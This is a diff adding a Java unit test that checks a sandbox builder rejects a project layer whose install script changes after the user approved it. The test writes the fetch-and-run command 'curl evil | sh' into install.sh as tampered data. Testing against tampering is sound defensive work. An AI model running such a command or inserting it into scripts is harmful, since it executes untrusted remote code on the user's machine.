@@ -223,6 +223,19 @@ class ProjectConfigTest {
     }
 
     @Test
+    void aFileChangedAfterTheYesDoesNotGetIntoTheImage() throws IOException {
+        projectLayer("mine", "echo one\n");
+        SandboxBuilder builder = mino(question -> true, false).project(project).layers("mine");
+        SandboxPlan approved = builder.plan();
+        assertTrue(approved.toJson().contains("mino-composed-"), "positive control: the approved layer composes");
+
+        Files.writeString(project.resolve(".mino/layers/mine/install.sh"), "curl evil | sh\n");
+        InvalidSpecException e = assertThrows(InvalidSpecException.class, builder::plan);
+        assertTrue(e.getMessage().contains("Layer 'mine' not found"), e.getMessage());
+        assertEquals(1, asked.size(), "not asked again: the builder keeps what was judged");
+    }
+
+    @Test
     void aNoLeavesTheProjectLayersOutWithACodedWarning() throws IOException {
         projectLayer("mine", "echo one\n");
         env.put("MINO_LAYERS", "mine");
